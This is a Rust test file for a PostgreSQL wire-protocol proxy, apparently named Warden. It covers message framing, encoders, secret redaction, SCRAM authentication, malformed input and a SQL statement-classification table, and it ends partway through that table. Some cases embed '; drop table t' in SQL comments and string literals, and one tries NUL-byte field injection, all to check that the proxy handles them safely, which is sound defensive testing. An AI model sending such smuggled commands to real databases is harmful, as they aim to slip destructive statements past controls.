//! Tests across the module: framing with arbitrary splits, messages built by
//! postgres_protocol's serializers, encoder round trips, malformed and random
//! input, and the classification table.
use postgres_protocol::IsNull;
use postgres_protocol::message::frontend;

use super::StatementClass as C;
use super::*;

/// Runs a postgres_protocol serializer and returns its bytes.
fn ser<B: Default + AsRef<[u8]>>(f: impl FnOnce(&mut B)) -> Vec<u8> {
    let mut b = B::default();
    f(&mut b);
    b.as_ref().to_vec()
}

/// A small deterministic generator (xorshift64*).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

fn frame_all_frontend(chunks: &[&[u8]]) -> Vec<Frame> {
    let mut f = FrontendFramer::new();
    let mut out = Vec::new();
    for c in chunks {
        f.push(c);
        while let Some(frame) = f.next().unwrap() {
            out.push(frame);
        }
    }
    assert_eq!(f.buffered(), 0);
    out
}

fn frame_all_backend(chunks: &[&[u8]]) -> Vec<Frame> {
    let mut f = BackendFramer::new();
    let mut out = Vec::new();
    for c in chunks {
        f.push(c);
        while let Some(frame) = f.next().unwrap() {
            out.push(frame);
        }
    }
    assert_eq!(f.buffered(), 0);
    out
}

/// Frames `stream` whole, byte by byte, and in random chunks; all must agree.
fn frames_under_splits(stream: &[u8], frame_all: fn(&[&[u8]]) -> Vec<Frame>) -> Vec<Frame> {
    let whole = frame_all(&[stream]);
    let bytes: Vec<&[u8]> = stream.chunks(1).collect();
    assert_eq!(frame_all(&bytes), whole);
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    for _ in 0..50 {
        let mut chunks = Vec::new();
        let mut rest = stream;
        while !rest.is_empty() {
            let n = 1 + rng.below(rest.len().min(40));
            chunks.push(&rest[..n]);
            rest = &rest[n..];
        }
        assert_eq!(frame_all(&chunks), whole);
    }
    let joined: Vec<u8> = whole.iter().flat_map(|f| f.bytes().to_vec()).collect();
    assert_eq!(joined, stream, "frames keep the exact bytes");
    whole
}

fn frontend_stream() -> (Vec<u8>, Vec<FrontendMessage>) {
    let mut stream = Vec::new();
    let mut want = Vec::new();
    let mut add = |bytes: Vec<u8>, msg: FrontendMessage| {
        stream.extend(bytes);
        want.push(msg);
    };
    add(ser(frontend::ssl_request), FrontendMessage::SslRequest);
    add(
        ser(|b| {
            frontend::startup_message(
                [
                    ("user", "alice"),
                    ("database", "crm"),
                    ("application_name", "agent"),
                ],
                b,
            )
            .unwrap()
        }),
        FrontendMessage::Startup {
            minor: 0,
            params: vec![
                ("user".into(), "alice".into()),
                ("database".into(), "crm".into()),
                ("application_name".into(), "agent".into()),
            ],
        },
    );
    add(
        ser(|b| frontend::password_message(b"s3cret", b).unwrap()),
        FrontendMessage::AuthResponse(AuthResponse(Secret::new(b"s3cret\0".to_vec()))),
    );
    add(
        ser(|b| frontend::query("select 1; select 'é'", b).unwrap()),
        FrontendMessage::Query {
            sql: "select 1; select 'é'".into(),
        },
    );
    add(
        ser(|b| frontend::parse("s1", "select $1::int", [23], b).unwrap()),
        FrontendMessage::Parse {
            name: "s1".into(),
            sql: "select $1::int".into(),
            param_types: vec![23],
        },
    );
    add(
        ser(|b| {
            frontend::bind(
                "p1",
                "s1",
                [0, 1],
                [Some(&b"42"[..]), None, Some(&b""[..])],
                |v, buf| match v {
                    Some(v) => {
                        buf.extend_from_slice(v);
                        Ok(IsNull::No)
                    }
                    None => Ok(IsNull::Yes),
                },
                [1],
                b,
            )
            .map_err(|_| ())
            .unwrap()
        }),
        FrontendMessage::Bind {
            portal: "p1".into(),
            statement: "s1".into(),
            param_formats: vec![0, 1],
            params: vec![Some(b"42".to_vec()), None, Some(Vec::new())],
            result_formats: vec![1],
        },
    );
    add(
        ser(|b| frontend::describe(b'P', "p1", b).unwrap()),
        FrontendMessage::Describe {
            kind: Target::Portal,
            name: "p1".into(),
        },
    );
    add(
        ser(|b| frontend::execute("p1", 10, b).unwrap()),
        FrontendMessage::Execute {
            portal: "p1".into(),
            max_rows: 10,
        },
    );
    add(
        ser(|b| frontend::close(b'S', "s1", b).unwrap()),
        FrontendMessage::Close {
            kind: Target::Statement,
            name: "s1".into(),
        },
    );
    add(ser(frontend::flush), FrontendMessage::Flush);
    add(ser(frontend::sync), FrontendMessage::Sync);
    add(
        ser(|b| frontend::CopyData::new(&b"1\tx\n"[..]).unwrap().write(b)),
        FrontendMessage::CopyData { len: 4 },
    );
    add(ser(frontend::copy_done), FrontendMessage::CopyDone);
    add(
        ser(|b| frontend::copy_fail("aborted", b).unwrap()),
        FrontendMessage::CopyFail {
            message: "aborted".into(),
        },
    );
    add(
        ser(|b| frontend::sasl_initial_response("SCRAM-SHA-256", b"n,,n=,r=abc", b).unwrap()),
        FrontendMessage::AuthResponse(AuthResponse(Secret::new(
            b"SCRAM-SHA-256\0\0\0\0\x0bn,,n=,r=abc".to_vec(),
        ))),
    );
    add(
        ser(|b| frontend::sasl_response(b"c=biws,r=abc,p=xyz", b).unwrap()),
        FrontendMessage::AuthResponse(AuthResponse(Secret::new(b"c=biws,r=abc,p=xyz".to_vec()))),
    );
    // FunctionCall: no serializer in postgres_protocol; built by hand.
    let mut body = 1234u32.to_be_bytes().to_vec();
    body.extend(1i16.to_be_bytes());
    body.extend(0i16.to_be_bytes());
    body.extend(2i16.to_be_bytes());
    body.extend(3i32.to_be_bytes());
    body.extend(b"abc");
    body.extend((-1i32).to_be_bytes());
    body.extend(1i16.to_be_bytes());
    let mut msg = vec![b'F'];
    msg.extend(((body.len() + 4) as i32).to_be_bytes());
    msg.extend(body);
    add(
        msg,
        FrontendMessage::FunctionCall {
            oid: 1234,
            arg_formats: vec![0],
            args: vec![Some(b"abc".to_vec()), None],
            result_format: 1,
        },
    );
    add(
        vec![b'?', 0, 0, 0, 4],
        FrontendMessage::Unknown { tag: b'?' },
    );
    add(ser(frontend::terminate), FrontendMessage::Terminate);
    (stream, want)
}

#[test]
fn frontend_messages_under_any_split() {
    let (stream, want) = frontend_stream();
    let frames = frames_under_splits(&stream, frame_all_frontend);
    let got: Vec<FrontendMessage> = frames
        .iter()
        .map(|f| FrontendMessage::decode(f).unwrap())
        .collect();
    assert_eq!(got, want);
    // CopyData stays in the frame.
    let copy = frames
        .iter()
        .find(|f| f.tag() == Some(b'd'))
        .expect("copy data frame");
    assert_eq!(copy.body(), b"1\tx\n");
    assert_eq!(got[1].startup_param("database"), Some("crm"));
    assert_eq!(got[1].name(), "StartupMessage");
}

#[test]
fn auth_responses_interpret() {
    let (_, msgs) = frontend_stream();
    let auth: Vec<&AuthResponse> = msgs
        .iter()
        .filter_map(|m| match m {
            FrontendMessage::AuthResponse(a) => Some(a),
            _ => None,
        })
        .collect();
    assert_eq!(auth[0].as_password(), Some(&b"s3cret"[..]));
    let init = auth[1].as_sasl_initial().unwrap();
    assert_eq!(init.mechanism, "SCRAM-SHA-256");
    assert_eq!(init.data, Some(&b"n,,n=,r=abc"[..]));
    assert!(!format!("{init:?}").contains("r=abc"));
    assert_eq!(auth[2].as_sasl_response(), b"c=biws,r=abc,p=xyz");
    assert_eq!(auth[2].as_password(), None);
}

#[test]
fn secrets_never_in_debug() {
    let (_, msgs) = frontend_stream();
    let shown = format!("{msgs:?}");
    assert!(!shown.contains("s3cret"), "{shown}");
    assert!(!shown.contains("p=xyz"), "{shown}");
    assert!(!shown.contains("115, 51"), "no bytes either: {shown}");
    assert!(shown.contains("<redacted>"));

    let cancel = ser(|b| frontend::cancel_request(4242, 0x0bad_cafe, b));
    let frames = frame_all_frontend(&[&cancel]);
    let msg = FrontendMessage::decode(&frames[0]).unwrap();
    let FrontendMessage::Cancel { pid, secret } = &msg else {
        panic!("{msg:?}");
    };
    assert_eq!(*pid, 4242);
    assert_eq!(secret.expose(), &0x0bad_cafe_i32.to_be_bytes());
    assert!(!format!("{msg:?}").contains("186"));
}

#[test]
fn cancel_and_gssenc_requests() {
    let cancel = encode::cancel_request(7, &[1, 2, 3, 4]);
    assert_eq!(cancel, ser(|b| frontend::cancel_request(7, 0x0102_0304, b)));
    let mut gss = 8i32.to_be_bytes().to_vec();
    gss.extend(80_877_104u32.to_be_bytes());
    let mut stream = gss.clone();
    stream.extend(encode::ssl_request());
    stream.extend(encode::startup_message(&[("user", "u")]));
    let frames = frames_under_splits(&stream, frame_all_frontend);
    let msgs: Vec<_> = frames
        .iter()
        .map(|f| FrontendMessage::decode(f).unwrap())
        .collect();
    assert_eq!(msgs[0], FrontendMessage::GssEncRequest);
    assert_eq!(msgs[1], FrontendMessage::SslRequest);
    assert_eq!(msgs[2].startup_param("user"), Some("u"));
    // A protocol 3.2 cancel key (32 bytes) is accepted too.
    let long = encode::cancel_request(7, &[9; 32]);
    let f = frame_all_frontend(&[&long]);
    assert!(matches!(
        FrontendMessage::decode(&f[0]).unwrap(),
        FrontendMessage::Cancel { pid: 7, .. }
    ));
}

fn raw(tag: u8, body: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    out.extend(((body.len() + 4) as i32).to_be_bytes());
    out.extend(body);
    out
}

fn backend_stream() -> (Vec<u8>, Vec<BackendMessage>) {
    let fields = vec![
        FieldDescription {
            name: "id".into(),
            table_oid: 16384,
            column: 1,
            type_oid: 23,
            type_size: 4,
            type_modifier: -1,
            format: 0,
        },
        FieldDescription {
            name: "email".into(),
            table_oid: 16384,
            column: 2,
            type_oid: 25,
            type_size: -1,
            type_modifier: -1,
            format: 0,
        },
    ];
    let mut stream = Vec::new();
    let mut want = Vec::new();
    let mut add = |bytes: Vec<u8>, msg: BackendMessage| {
        stream.extend(bytes);
        want.push(msg);
    };
    add(
        encode::authentication_sasl(&["SCRAM-SHA-256", "SCRAM-SHA-256-PLUS"]),
        BackendMessage::Authentication(Authentication::Sasl {
            mechanisms: vec!["SCRAM-SHA-256".into(), "SCRAM-SHA-256-PLUS".into()],
        }),
    );
    add(
        encode::authentication_sasl_continue(b"r=abc,s=c2FsdA==,i=4096"),
        BackendMessage::Authentication(Authentication::SaslContinue {
            data: b"r=abc,s=c2FsdA==,i=4096".to_vec(),
        }),
    );
    add(
        encode::authentication_sasl_final(b"v=xyz"),
        BackendMessage::Authentication(Authentication::SaslFinal {
            data: b"v=xyz".to_vec(),
        }),
    );
    add(
        encode::authentication_md5_request([1, 2, 3, 4]),
        BackendMessage::Authentication(Authentication::Md5Password { salt: [1, 2, 3, 4] }),
    );
    add(
        encode::authentication_cleartext_request(),
        BackendMessage::Authentication(Authentication::CleartextPassword),
    );
    add(
        encode::authentication_ok(),
        BackendMessage::Authentication(Authentication::Ok),
    );
    add(
        encode::parameter_status("server_version", "17.2"),
        BackendMessage::ParameterStatus {
            name: "server_version".into(),
            value: "17.2".into(),
        },
    );
    add(
        encode::backend_key_data(99, &[0, 0, 0, 7]),
        BackendMessage::BackendKeyData {
            pid: 99,
            secret: Secret::new(vec![0, 0, 0, 7]),
        },
    );
    add(
        encode::ready_for_query(TransactionStatus::Idle),
        BackendMessage::ReadyForQuery {
            status: TransactionStatus::Idle,
        },
    );
    add(
        encode::row_description(&fields),
        BackendMessage::RowDescription {
            fields: fields.clone(),
        },
    );
    // DataRow ranges are checked separately (they depend on the frame).
    add(
        encode::command_complete("SELECT 1"),
        BackendMessage::CommandComplete(CommandTag("SELECT 1".into())),
    );
    add(
        encode::error_response(
            Severity::Error,
            "42501",
            "permission denied by Warden",
            Some("rule deny-ddl"),
            Some("ask for approval"),
        ),
        BackendMessage::ErrorResponse(ErrorFields {
            fields: vec![
                (b'S', "ERROR".into()),
                (b'V', "ERROR".into()),
                (b'C', "42501".into()),
                (b'M', "permission denied by Warden".into()),
                (b'D', "rule deny-ddl".into()),
                (b'H', "ask for approval".into()),
            ],
        }),
    );
    add(
        encode::notice_response(Severity::Notice, "00000", "masked 2 columns", None, None),
        BackendMessage::NoticeResponse(ErrorFields {
            fields: vec![
                (b'S', "NOTICE".into()),
                (b'V', "NOTICE".into()),
                (b'C', "00000".into()),
                (b'M', "masked 2 columns".into()),
            ],
        }),
    );
    add(raw(b'1', b""), BackendMessage::ParseComplete);
    add(raw(b'2', b""), BackendMessage::BindComplete);
    add(raw(b'3', b""), BackendMessage::CloseComplete);
    add(raw(b'n', b""), BackendMessage::NoData);
    add(raw(b's', b""), BackendMessage::PortalSuspended);
    add(
        encode::empty_query_response(),
        BackendMessage::EmptyQueryResponse,
    );
    add(
        raw(b't', &[0, 2, 0, 0, 0, 23, 0, 0, 0, 25]),
        BackendMessage::ParameterDescription {
            types: vec![23, 25],
        },
    );
    add(
        raw(b'G', &[0, 0, 2, 0, 0, 0, 0]),
        BackendMessage::CopyInResponse(CopyResponse {
            format: 0,
            column_formats: vec![0, 0],
        }),
    );
    add(
        raw(b'H', &[1, 0, 1, 0, 1]),
        BackendMessage::CopyOutResponse(CopyResponse {
            format: 1,
            column_formats: vec![1],
        }),
    );
    add(
        raw(b'W', &[0, 0, 0]),
        BackendMessage::CopyBothResponse(CopyResponse {
            format: 0,
            column_formats: vec![],
        }),
    );
    add(raw(b'd', b"abc"), BackendMessage::CopyData { len: 3 });
    add(raw(b'c', b""), BackendMessage::CopyDone);
    add(
        raw(b'A', b"\0\0\0\x05chan\0hello\0"),
        BackendMessage::NotificationResponse {
            pid: 5,
            channel: "chan".into(),
            payload: "hello".into(),
        },
    );
    add(
        raw(b'V', &[0, 0, 0, 2, b'o', b'k']),
        BackendMessage::FunctionCallResponse {
            value: Some(b"ok".to_vec()),
        },
    );
    add(
        raw(b'v', b"\0\0\0\0\0\0\0\x01_pq_.x\0"),
        BackendMessage::NegotiateProtocolVersion {
            newest_minor: 0,
            unrecognized: vec!["_pq_.x".into()],
        },
    );
    add(raw(b'~', b"xyz"), BackendMessage::Unknown { tag: b'~' });
    add(
        encode::ready_for_query(TransactionStatus::Failed),
        BackendMessage::ReadyForQuery {
            status: TransactionStatus::Failed,
        },
    );
    (stream, want)
}

#[test]
fn backend_messages_under_any_split() {
    let (stream, want) = backend_stream();
    let frames = frames_under_splits(&stream, frame_all_backend);
    let got: Vec<BackendMessage> = frames
        .iter()
        .map(|f| BackendMessage::decode(f).unwrap())
        .collect();
    assert_eq!(got, want);
    let BackendMessage::ErrorResponse(e) = &got[11] else {
        panic!("{:?}", got[11]);
    };
    assert_eq!(e.severity(), Some("ERROR"));
    assert_eq!(e.code(), Some("42501"));
    assert_eq!(e.message(), Some("permission denied by Warden"));
    assert_eq!(e.detail(), Some("rule deny-ddl"));
    assert_eq!(e.hint(), Some("ask for approval"));
}

#[test]
fn encoders_agree_with_postgres_protocol() {
    use postgres_protocol::message::backend::Message;
    let mut stream = Vec::new();
    stream.extend(encode::authentication_md5_request([9, 8, 7, 6]));
    stream.extend(encode::parameter_status("TimeZone", "UTC"));
    stream.extend(encode::backend_key_data(77, &[0, 0, 1, 0]));
    stream.extend(encode::row_description(&[FieldDescription {
        name: "x".into(),
        table_oid: 0,
        column: 0,
        type_oid: 25,
        type_size: -1,
        type_modifier: -1,
        format: 0,
    }]));
    stream.extend(encode::data_row(&[Some(b"abc"), None]));
    stream.extend(encode::command_complete("SELECT 1"));
    stream.extend(encode::error_response(
        Severity::Fatal,
        "28P01",
        "no",
        None,
        None,
    ));
    stream.extend(encode::ready_for_query(TransactionStatus::InTransaction));
    // postgres_protocol parses from a BytesMut; the first call fixes the type.
    let mut bytes = Default::default();
    assert!(Message::parse(&mut bytes).unwrap().is_none());
    bytes.extend_from_slice(&stream);
    let mut seen = Vec::new();
    while let Some(m) = Message::parse(&mut bytes).unwrap() {
        match m {
            Message::AuthenticationMd5Password(b) => assert_eq!(b.salt(), [9, 8, 7, 6]),
            Message::ParameterStatus(b) => {
                assert_eq!((b.name().unwrap(), b.value().unwrap()), ("TimeZone", "UTC"))
            }
            Message::BackendKeyData(b) => {
                assert_eq!((b.process_id(), b.secret_key()), (77, 256))
            }
            Message::RowDescription(_) => {}
            Message::DataRow(b) => assert_eq!(b.buffer(), b"\0\0\0\x03abc\xff\xff\xff\xff"),
            Message::CommandComplete(b) => assert_eq!(b.tag().unwrap(), "SELECT 1"),
            Message::ErrorResponse(_) => {}
            Message::ReadyForQuery(b) => assert_eq!(b.status(), b'T'),
            _ => panic!("unexpected message"),
        }
        seen.push(());
    }
    assert_eq!(seen.len(), 8);
}

#[test]
fn data_row_round_trip() {
    let values: [Option<&[u8]>; 4] = [Some(b"42"), None, Some(b""), Some("é".as_bytes())];
    let bytes = encode::data_row(&values);
    let frames = frames_under_splits(&bytes, frame_all_backend);
    let BackendMessage::DataRow(row) = BackendMessage::decode(&frames[0]).unwrap() else {
        panic!("not a data row");
    };
    assert_eq!(row.len(), 4);
    let got: Vec<Option<&[u8]>> = row.values(&frames[0]).collect();
    assert_eq!(got, values);
    assert_eq!(row.value(&frames[0], 1), Some(None));
    assert_eq!(row.value(&frames[0], 9), None);
    // Re-encoding what was decoded gives the same bytes.
    assert_eq!(encode::data_row(&got), frames[0].bytes());
    // Ranges point into the frame: a masker can splice.
    let r = row.ranges[0].clone().unwrap();
    assert_eq!(&frames[0].bytes()[r], b"42");
    // An empty row.
    let empty = encode::data_row(&[]);
    let f = frame_all_backend(&[&empty]);
    assert_eq!(
        BackendMessage::decode(&f[0]).unwrap(),
        BackendMessage::DataRow(DataRow { ranges: vec![] })
    );
}

#[test]
fn row_description_round_trip() {
    let fields: Vec<FieldDescription> = (0..40)
        .map(|i| FieldDescription {
            name: format!("col_{i}"),
            table_oid: 16000 + i,
            column: i as i16,
            type_oid: 25,
            type_size: -1,
            type_modifier: i as i32 - 1,
            format: (i % 2) as i16,
        })
        .collect();
    let bytes = encode::row_description(&fields);
    let frames = frames_under_splits(&bytes, frame_all_backend);
    assert_eq!(
        BackendMessage::decode(&frames[0]).unwrap(),
        BackendMessage::RowDescription { fields }
    );
}

#[test]
fn upstream_encoders_round_trip() {
    let mut stream = encode::startup_message(&[("user", "svc"), ("database", "crm")]);
    stream.extend(encode::password_message(b"pw"));
    stream.extend(encode::sasl_initial_response("SCRAM-SHA-256", b"n,,n=,r=x"));
    stream.extend(encode::sasl_response(b"c=biws"));
    stream.extend(encode::query("select 1"));
    stream.extend(encode::sync());
    stream.extend(encode::terminate());
    // The same bytes as postgres_protocol's serializers.
    let mut theirs =
        ser(|b| frontend::startup_message([("user", "svc"), ("database", "crm")], b).unwrap());
    theirs.extend(ser(|b| frontend::password_message(b"pw", b).unwrap()));
    theirs.extend(ser(|b| {
        frontend::sasl_initial_response("SCRAM-SHA-256", b"n,,n=,r=x", b).unwrap()
    }));
    theirs.extend(ser(|b| frontend::sasl_response(b"c=biws", b).unwrap()));
    theirs.extend(ser(|b| frontend::query("select 1", b).unwrap()));
    theirs.extend(ser(frontend::sync));
    theirs.extend(ser(frontend::terminate));
    assert_eq!(stream, theirs);
    let frames = frames_under_splits(&stream, frame_all_frontend);
    let msgs: Vec<_> = frames
        .iter()
        .map(|f| FrontendMessage::decode(f).unwrap())
        .collect();
    assert_eq!(msgs[0].startup_param("user"), Some("svc"));
    assert_eq!(
        msgs[4],
        FrontendMessage::Query {
            sql: "select 1".into()
        }
    );
    assert_eq!(msgs.len(), 7);
}

#[test]
fn embedded_nul_cannot_inject_fields() {
    let bytes = encode::error_response(Severity::Error, "42501", "a\0Mevil", None, None);
    let f = frame_all_backend(&[&bytes]);
    let BackendMessage::ErrorResponse(e) = BackendMessage::decode(&f[0]).unwrap() else {
        panic!("not an error");
    };
    assert_eq!(e.message(), Some("a"));
    assert_eq!(e.fields.len(), 4);
}

#[test]
fn command_tag_rows() {
    let cases = [
        ("SELECT 5", Some(5), "SELECT"),
        ("INSERT 0 3", Some(3), "INSERT"),
        ("UPDATE 2", Some(2), "UPDATE"),
        ("DELETE 0", Some(0), "DELETE"),
        ("MERGE 4", Some(4), "MERGE"),
        ("COPY 7", Some(7), "COPY"),
        ("FETCH 10", Some(10), "FETCH"),
        ("MOVE 1", Some(1), "MOVE"),
        ("CREATE TABLE", None, "CREATE TABLE"),
        ("BEGIN", None, "BEGIN"),
        ("SELECT", None, "SELECT"),
        ("INSERT 3", None, "INSERT"),
        ("SELECT x", None, "SELECT x"),
        ("", None, ""),
    ];
    for (tag, rows, command) in cases {
        let t = CommandTag(tag.into());
        assert_eq!(t.rows(), rows, "{tag}");
        assert_eq!(t.command(), command, "{tag}");
    }
}

#[test]
fn malformed_bodies_are_errors() {
    let backend: &[(u8, &[u8])] = &[
        (b'D', &[0, 1, 0, 0, 0, 9, b'a']),       // value longer than body
        (b'D', &[0, 1, 0xff, 0xff, 0xff, 0xfe]), // negative length
        (b'D', &[0xff, 0xff]),                   // negative count
        (b'D', &[0, 0, 1]),                      // trailing byte
        (b'T', &[0, 1, b'x', 0, 0]),             // truncated field
        (b'T', &[0, 1, b'x']),                   // unterminated name
        (b'Z', b"Q"),                            // bad status
        (b'Z', b""),                             // missing status
        (b'R', &[0, 0, 0, 5, 1, 2]),             // short salt
        (b'R', &[0, 0, 0, 10, b'x', 0]),         // unterminated list
        (b'K', &[0, 0, 0, 1, 2, 3]),             // short key
        (b'C', b"SELECT 1"),                     // no NUL
        (b'E', b"SERROR\0"),                     // no terminator
        (b't', &[0, 2, 0, 0, 0, 23]),            // missing type
        (b'G', &[0, 0, 1]),                      // missing format
        (b'A', &[0, 0, 0, 1, b'c', 0]),          // missing payload
        (b'V', &[0, 0, 0, 3, b'a']),             // short value
        (b'v', &[0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff]), // negative count
        (b'1', b"x"),                            // body where none belongs
    ];
    for (tag, body) in backend {
        let f = frame_all_backend(&[&raw(*tag, body)]);
        assert!(
            BackendMessage::decode(&f[0]).is_err(),
            "{} {body:?}",
            *tag as char
        );
    }
    let frontend_typed: &[(u8, &[u8])] = &[
        (b'Q', b"select 1"),
        (b'P', b"s\0select\0\0\x01\0\0"),
        (b'B', b"p\0s\0\0\0\0\x01\0\0\0\x05ab"),
        (b'B', b"p\0s\0\xff\xff"),
        (b'E', b"p\0\0\0"),
        (b'D', b"Xname\0"),
        (b'C', b"S"),
        (b'S', b"x"),
        (b'F', &[0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 9]),
        (b'f', b"msg"),
    ];
    let mut startup = encode::startup_message(&[("user", "u")]);
    for (tag, body) in frontend_typed {
        startup.extend(raw(*tag, body));
    }
    let frames = frame_all_frontend(&[&startup]);
    assert!(FrontendMessage::decode(&frames[0]).is_ok());
    for (f, (tag, body)) in frames[1..].iter().zip(frontend_typed) {
        assert!(
            FrontendMessage::decode(f).is_err(),
            "{} {body:?}",
            *tag as char
        );
    }
    // Untyped bodies.
    for body in [
        &b"\0\x03\0\0user\0u\0"[..],     // no final NUL
        &b"\0\x03\0\0user\0"[..],        // name without value
        &b"\x04\xd2\x16.\0\0\0\x01"[..], // cancel without key
        &b"\x04\xd2\x16/\0"[..],         // SSLRequest with a trailing byte
    ] {
        let mut m = ((body.len() + 4) as i32).to_be_bytes().to_vec();
        m.extend(body);
        let f = frame_all_frontend(&[&m]);
        assert!(FrontendMessage::decode(&f[0]).is_err(), "{body:?}");
    }
}

#[test]
fn random_bytes_never_panic() {
    let mut rng = Rng(0xdead_beef_cafe_f00d);
    let (fe, _) = frontend_stream();
    let (be, _) = backend_stream();
    for round in 0..3000 {
        // Half pure noise, half a valid stream with a few bytes flipped.
        let mut bytes: Vec<u8> = if round % 2 == 0 {
            (0..rng.below(300)).map(|_| rng.next() as u8).collect()
        } else if round % 4 == 1 {
            fe.clone()
        } else {
            be.clone()
        };
        if round % 2 == 1 {
            for _ in 0..1 + rng.below(4) {
                let i = rng.below(bytes.len());
                bytes[i] = rng.next() as u8;
            }
        }
        let mut f = FrontendFramer::with_max_message_len(1 << 20);
        if rng.below(2) == 0 {
            // Also start in the typed phase.
            f.push(&encode::startup_message(&[]));
            let _ = f.next();
        }
        let mut b = BackendFramer::with_max_message_len(1 << 20);
        if rng.below(3) == 0 {
            b.expect_negotiation_reply();
        }
        for chunk in bytes.chunks(1 + rng.below(64)) {
            f.push(chunk);
            b.push(chunk);
            while let Ok(Some(frame)) = f.next() {
                if let Ok(FrontendMessage::Query { sql }) = FrontendMessage::decode(&frame) {
                    let _ = classify(&sql);
                }
                let _ = format!("{:?}", FrontendMessage::decode(&frame));
            }
            while let Ok(Some(frame)) = b.next() {
                if let Ok(BackendMessage::DataRow(row)) = BackendMessage::decode(&frame) {
                    assert_eq!(row.values(&frame).count(), row.len());
                }
                let _ = BackendMessage::decode(&frame);
            }
        }
    }
}

#[test]
fn scram_client_flow_and_errors() {
    let mut c = ScramClient::new(b"pencil");
    assert_eq!(c.mechanism(), "SCRAM-SHA-256");
    assert!(!format!("{c:?}").contains("pencil"));
    let first = c.initial_response().unwrap();
    let f = frame_all_frontend(&[&encode::startup_message(&[]), &first]);
    let FrontendMessage::AuthResponse(auth) = FrontendMessage::decode(&f[1]).unwrap() else {
        panic!("not an auth response");
    };
    let init = auth.as_sasl_initial().unwrap();
    assert_eq!(init.mechanism, "SCRAM-SHA-256");
    let data = std::str::from_utf8(init.data.unwrap()).unwrap();
    assert!(data.starts_with("n,,n=,r="), "{data}");
    let nonce = &data["n,,n=,r=".len()..];
    // Finishing before continuing is refused.
    assert!(c.finish(b"v=abc").is_err());
    // A server nonce that does not extend ours is refused, and the client is spent.
    let mut c2 = ScramClient::new(b"pencil");
    assert!(c2.continue_response(b"r=other,s=c2FsdA==,i=4096").is_err());
    assert!(c2.continue_response(b"r=other,s=c2FsdA==,i=4096").is_err());
    assert!(c2.initial_response().is_err());
    // A well-formed server-first message gives a client-final message.
    let mut c3 = ScramClient::new(b"pencil");
    let n3 = {
        let m = c3.initial_response().unwrap();
        let s = String::from_utf8_lossy(&m).into_owned();
        s[s.find("r=").unwrap() + 2..].to_string()
    };
    let server_first = format!("r={n3}srv,s=c2FsdA==,i=4096");
    let final_msg = c3.continue_response(server_first.as_bytes()).unwrap();
    let text = String::from_utf8_lossy(&final_msg[5..]).into_owned();
    assert!(text.starts_with(&format!("c=biws,r={n3}srv,p=")), "{text}");
    // A wrong server signature fails verification.
    assert!(c3.finish(b"v=AAAA").is_err());
    assert!(!nonce.is_empty());
    let plus = ScramClient::with_tls_server_end_point(b"pw", vec![1, 2, 3]);
    assert_eq!(plus.mechanism(), "SCRAM-SHA-256-PLUS");
}

#[test]
fn md5_password_matches_known_vector() {
    assert_eq!(
        encode::md5_password("md5_user", b"password", [0x2a, 0x3d, 0x8f, 0xe0]),
        "md562af4dd09bbb41884907a838a3233294"
    );
}

/// (sql, class of each statement, tables read, tables written), reads and
/// writes taken over all statements.
type Case = (
    &'static str,
    &'static [C],
    &'static [&'static str],
    &'static [&'static str],
);

const CASES: &[Case] = &[
    // reads
    (
        "select * from crm.customers where email like '%a%'",
        &[C::Read],
        &["crm.customers"],
        &[],
    ),
    (
        "SELECT * FROM CRM.Customers",
        &[C::Read],
        &["crm.customers"],
        &[],
    ),
    (
        r#"SELECT * FROM "CRM"."Customers""#,
        &[C::Read],
        &[r#""CRM"."Customers""#],
        &[],
    ),
    (r#"select * from "users""#, &[C::Read], &["users"], &[]),
    (
        "select count(*), max(x), lower(name), coalesce(a, b), now(), date_trunc('day', ts) from t group by 3",
        &[C::Read],
        &["t"],
        &[],
    ),
    (
        "select u.*, o.total from users u join orders o on o.uid = u.id where o.total > (select avg(total) from refunds)",
        &[C::Read],
        &["users", "orders", "refunds"],
        &[],
    ),
    (
        "select * from t where id in (select id from secrets)",
        &[C::Read],
        &["t", "secrets"],
        &[],
    ),
    (
        "select * from t where a = any(select b from s)",
        &[C::Read],
        &["t", "s"],
        &[],
    ),
    (
        "select (select max(x) from a), exists(select 1 from b) from c",
        &[C::Read],
        &["a", "b", "c"],
        &[],
    ),
    (
        "select * from t, lateral (select * from s where s.id = t.id) x",
        &[C::Read],
        &["t", "s"],
        &[],
    ),
    ("select 1 union select x from t", &[C::Read], &["t"], &[]),
    ("values (1), (2)", &[C::Read], &[], &[]),
    (
        "select * from generate_series(1, 3) g",
        &[C::Read],
        &[],
        &[],
    ),
    (
        "select array(select id from t), row(1, 2)",
        &[C::Read],
        &["t"],
        &[],
    ),
    (
        "select current_user, current_timestamp, version(), pg_catalog.lower('A')",
        &[C::Read],
        &[],
        &[],
    ),
    (
        "select row_number() over (partition by a order by b) from t",
        &[C::Read],
        &["t"],
        &[],
    ),
    ("select x from t where y = $1", &[C::Read], &["t"], &[]),
    (
        "select * from t where x = 1 -- ; drop table t",
        &[C::Read],
        &["t"],
        &[],
    ),
    ("select '; drop table t'", &[C::Read], &[], &[]),
    ("select 1 /* ; drop table t */", &[C::Read], &[], &[]),
    (
        "with x as (select * from a) select * from x",
        &[C::Read],
        &["a"],
        &[],
    ),
    (
        "with t as (select * from t) select * from t",
        &[C::Read],
        &["t"],
        &[],
    ),
    (
        "with recursive r(n) as (select 1 union all select n + 1 from r where n < 10) select * from r",
        &[C::Read],
        &[],
        &[],
    ),
    ("explain select * from t", &[C::Read], &["t"], &[]),
    ("explain delete from t", &[C::Read], &["t"], &[]),
    (
        "explain (analyze false) delete from t",
        &[C::Read],
        &["t"],
        &[],
    ),
    (
        "declare c cursor for select * from t; fetch 10 from c; close c",
        &[C::Read, C::Read, C::Session],
        &["t"],
        &[],
    ),
    // writes
    ("insert into t (a) values (1)", &[C::Write], &[], &["t"]),
    ("insert into t select * from s", &[C::Write], &["s"], &["t"]),
    (
        "insert into t values (nextval('seq'), now())",
        &[C::Write],
        &[],
        &["t"],
    ),
    (
        "insert into t values (1) on conflict (id) do update set a = excluded.a",
        &[C::Write],
        &[],
        &["t"],
    ),
    (
